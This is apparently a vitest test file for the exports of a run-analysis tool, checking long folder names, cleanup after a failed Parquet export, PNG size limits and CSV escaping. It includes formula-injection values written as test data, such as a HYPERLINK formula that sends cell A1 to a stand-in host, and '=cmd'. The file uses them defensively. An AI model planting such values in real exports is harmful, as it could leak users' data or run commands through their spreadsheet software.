// Issue 38 item 5: exports a hostile run name or request size could break. A run named with 60 accented letters
// (percent-encoded, 360 bytes: over a folder name's 255) is exported to Parquet in full; a failed Parquet export
// leaves no half-written folder; a PNG far over 50 megapixels is refused with the limit named (CLI exit 1, API
// input error: HTTP 400 in serve) before anything is drawn; a CSV cell holding `;=…` cannot start a formula in
// a spreadsheet that splits on `;`.
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DuckDBInstance } from '@duckdb/node-api';
import { beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../shared/charts/csv.ts';
import { openDatabase } from '../db/database.ts';
import type { Db } from '../db/dbHandle.ts';
import { createApi } from '../services/api.ts';
import { dispatch } from '../services/dispatch.ts';
import { useSuiteTempDir } from '../testing/tmp.ts';
import { checkPngPixels, MAX_PNG_PIXELS } from './figureLimits.ts';
import { exportParquet } from './parquetExport.ts';

const root = fileURLToPath(new URL('../../', import.meta.url));
const bin = join(root, 'bin/routelens.mjs');
const example = join(root, 'fixtures/canonical/example.jsonl');
const tempDir = useSuiteTempDir();
/** 60 accented letters: 120 bytes of UTF-8, 360 once percent-encoded in a folder name. */
const LONG_RUN = 'é'.repeat(30) + 'Ü'.repeat(30);

function routelens(args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', cwd: root, timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

let dbPath: string;
beforeAll(() => {
  const dir = tempDir();
  dbPath = join(dir, 'runs.db');
  // The real canonical example under two hostile run names (one file each: the same bytes import once).
  const lines = readFileSync(example, 'utf8').split('\n').filter(Boolean);
  const files = [LONG_RUN, 'x;=HYPERLINK("http://example.invalid/?q="&A1)'].map((run, i) => {
    const file = join(dir, `run${i}.jsonl`);
    writeFileSync(file, lines.map((l) => JSON.stringify({ ...JSON.parse(l), run })).join('\n'));
    return file;
  });
  const r = routelens(['import', ...files, '--db', dbPath]);
  expect(r.code, r.stderr).toBe(0);
}, 240_000);

describe('export-data --format parquet with a run name too long for a folder name', () => {
  it('exits 0, every partition folder within 255 bytes, the full name in run_name', async () => {
    const parent = tempDir();
    const out = join(parent, 'parquet');
    const r = routelens(['export-data', '--db', dbPath, '--format', 'parquet', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const folders = readdirSync(join(out, 'turns'));
    expect(folders).toHaveLength(2);
    for (const f of folders) expect(Buffer.byteLength(f)).toBeLessThanOrEqual(255);
    // The other tables are partitioned the same way.
    for (const table of ['runs', 'episodes', 'turn_text']) expect(readdirSync(join(out, table)).sort()).toEqual([...folders].sort());
    expect(readdirSync(parent)).toEqual(['parquet']);
    const duck = await (await DuckDBInstance.create(':memory:')).connect();
    const rows = (await duck.runAndReadAll(`SELECT run, run_name, count(*) AS n FROM read_parquet('${join(out, 'turns')}/*/*.parquet', hive_partitioning = true) GROUP BY ALL ORDER BY run_name`)).getRowObjects();
    const names = rows.map((x) => x.run_name);
    expect(names).toContain(LONG_RUN);
    const long = rows.find((x) => x.run_name === LONG_RUN);
    expect(String(long?.run)).toMatch(/^é+Ü*-[0-9a-f]{10}$/);
    // The short name is its own partition value.
    expect(rows.filter((x) => x.run === x.run_name)).toHaveLength(1);
  }, 120_000);

  it('leaves no folder behind when the export fails half-way', async () => {
    const parent = tempDir();
    const out = join(parent, 'parquet');
    const db = openDatabase(dbPath, { readonly: true });
    try {
      // The fourth table's query fails, after three tables' files are written.
      const failing = new Proxy(db, {
        get: (target, key) => key === 'prepare'
          ? (sql: string) => { if (sql.includes('FROM messages')) throw new Error('disk went away'); return target.prepare(sql); }
          : Reflect.get(target, key, target),
      }) as Db;
      await expect(exportParquet(failing, out)).rejects.toThrow('disk went away');
    } finally {
      db.close();
    }
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(parent)).toEqual([]);
  }, 120_000);
});

describe('a PNG over the pixel limit', () => {
  // pareto 4000 CSS px wide is 569 high: at 480 dpi (5×) 20,000 × 2,845 px, 57 megapixels, 228 MB to draw. (The
  // reported 1200 dpi, 356 megapixels, is refused the same way; it is not drawn here before the fix.)
  const over = ['--width', '4000', '--dpi', '480'];

  it('is refused by `routelens export` with exit 1, the limit named, and no file', () => {
    const png = join(tempDir(), 'big.png');
    const r = routelens(['export', 'pareto', '--db', dbPath, '--out', png, ...over]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/over the limit of 50 megapixels/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(existsSync(png)).toBe(false);
  }, 120_000);

  it('is an input error from the API (HTTP 400 in serve), through the analysis worker', async () => {
    const db = openDatabase(dbPath, { readonly: true });
    const api = createApi(db, dbPath);
    try {
      const r = await dispatch(api, 'exportFigure', { request: { id: 'pareto' }, format: 'png', width: 4000, dpi: 480 });
      expect(r.ok).toBe(false);
      if (!r.ok) {
        expect(r.error.kind).toBe('input');
        expect(r.error.message).toMatch(/over the limit of 50 megapixels/);
      }
    } finally {
      db.close();
    }
  }, 120_000);

  it('the reported size (4000 px at 1200 dpi) is refused; a 300-dpi figure at the default width is not', () => {
    expect(() => checkPngPixels(4000, 2400, 1200 / 96)).toThrow(/over the limit of 50 megapixels/);
    expect(() => checkPngPixels(720, 480, 300 / 96)).not.toThrow();
    expect(MAX_PNG_PIXELS).toBe(50_000_000);
  });
});

describe('CSV cells read by a spreadsheet that splits on ; or |', () => {
  /** Every field a spreadsheet splitting on `sep` (quotes ignored, as they are mid-field) would see. */
  const fields = (csv: string, sep: string): string[] => csv.split('\r\n').flatMap((line) => line.split(sep));
  /** A field a spreadsheet would evaluate: a formula character first, and not a plain (negative) number. */
  const formula = (field: string): boolean => /^[ "]*[=+\-@]/.test(field) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(field);

  it('never start a formula, for cells from logs with a separator before =, +, - or @', () => {
    const hostile = ['x;=HYPERLINK("http://example.invalid")', 'a,b;=1+1', 'p|@SUM(A1)', 'q; "+1', 'm;-2+3', '=cmd'];
    const csv = toCsv(['run', 'model'], hostile.map((h) => [h, 'gpt-5']));
    for (const sep of [',', ';', '|']) expect(fields(csv, sep).filter(formula), sep).toEqual([]);
    // The text itself is kept: only an apostrophe is added.
    expect(csv).toContain(`x;'=HYPERLINK(""http://example.invalid"")`);
  });

  it('`routelens export … .csv` of a run named `x;=HYPERLINK(…)`', () => {
    const csvPath = join(tempDir(), 'pareto.csv');
    const r = routelens(['export', 'pareto', '--db', dbPath, '--out', csvPath]);
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(csvPath, 'utf8');
    expect(csv).toContain('HYPERLINK');
    for (const sep of [',', ';', '|']) expect(fields(csv, sep).filter(formula), sep).toEqual([]);
  }, 120_000);
});
